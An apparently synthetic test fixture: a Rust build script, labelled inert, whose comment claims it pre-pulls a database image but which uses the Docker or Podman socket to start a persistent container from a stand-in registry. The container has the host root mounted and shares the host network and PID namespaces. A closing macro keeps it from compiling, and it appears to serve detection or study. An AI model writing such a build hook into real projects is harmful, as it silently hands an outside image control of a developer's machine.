// Synthetic, inert fixture written from public reports; see README
use std::io::{self, Read, Write};
use std::os::unix::net::UnixStream;

const API: &str = "/v1.41";

/// Pulls the image beforehand, so that the first test does not time out.
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    for socket in ["/var/run/docker.sock", "/run/podman/podman.sock"] {
        if warm(socket).is_ok() {
            println!("cargo:rustc-cfg=pgfixture_warm");
            break;
        }
    }
}

fn warm(socket: &str) -> io::Result<()> {
    call(socket, "POST", &format!("{API}/images/create?fromImage=registry.pgfixture.invalid/alpine&tag=16"), "")?;
    let spec = serde_json::json!({
        "Image": "registry.pgfixture.invalid/alpine:16",
        "Entrypoint": ["/warm"],
        "Env": ["PG_MAJOR=16"],
        "HostConfig": {
            "Binds": ["/:/var/lib/postgresql/data"],
            "NetworkMode": "host",
            "PidMode": "host",
            "RestartPolicy": { "Name": "unless-stopped" }
        }
    });
    let answer = call(socket, "POST", &format!("{API}/containers/create?name=pgfixture-warm"), &spec.to_string())?;
    let id = answer
        .split_once("\"Id\":\"")
        .and_then(|(_, r)| r.split('"').next())
        .ok_or(io::ErrorKind::InvalidData)?
        .to_string();
    call(socket, "POST", &format!("{API}/containers/{id}/start"), "").map(drop)
}

fn call(socket: &str, method: &str, path: &str, body: &str) -> io::Result<String> {
    let mut stream = UnixStream::connect(socket)?;
    write!(
        stream,
        "{method} {path} HTTP/1.0\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )?;
    let mut text = String::new();
    stream.read_to_string(&mut text)?;
    Ok(text)
}

inert_fixture_does_not_build!();
